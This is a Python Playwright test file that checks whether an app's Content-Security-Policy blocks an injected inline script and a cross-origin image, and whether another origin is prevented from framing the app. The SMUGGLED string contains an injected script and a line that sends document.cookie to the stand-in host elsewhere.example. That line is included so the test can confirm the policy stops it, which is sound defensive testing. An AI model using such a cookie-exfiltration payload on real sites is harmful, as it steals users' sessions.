"""The app under its Content-Security-Policy: what is smuggled in does not run, and no other site frames it."""

from playwright.sync_api import expect

from tests.browser.test_every_page import WATCH

SMUGGLED = """() => new Promise(done => {
  const script = document.createElement('script');
  script.textContent = 'window.smuggled = true';
  document.head.append(script);
  const picture = new Image();
  picture.onload = () => { window.smuggled = true; };
  picture.onerror = () => done([window.smuggled ?? false, ...window.violations]);
  picture.src = 'https://elsewhere.example/?' + document.cookie;
})"""


def test_a_script_in_the_page_and_a_picture_from_elsewhere_are_stopped(visit):
    person = visit("ko")
    person.page.evaluate(WATCH)
    smuggled, *stopped = person.page.evaluate(SMUGGLED)
    assert not smuggled
    assert [line.split()[0] for line in stopped] == ["script-src-elem", "img-src"]
    assert len(person.complaints) >= 2  # the console says so, too
    person.complaints.clear()


def test_another_site_does_not_get_the_app_into_a_frame(visit, address):
    person = visit("ko")
    other = person.context.new_page()
    other.goto(address.replace("127.0.0.1", "localhost") + "_stcore/health")  # another origin of the same server
    other.evaluate(
        """(address) => new Promise(done => {
        const frame = document.createElement('iframe');
        frame.onload = done;
        frame.src = address;
        document.body.append(frame);
    })""",
        address,
    )
    assert other.frames[1].url == "chrome-error://chromewebdata/"
    expect(person.button("train")).to_be_visible()
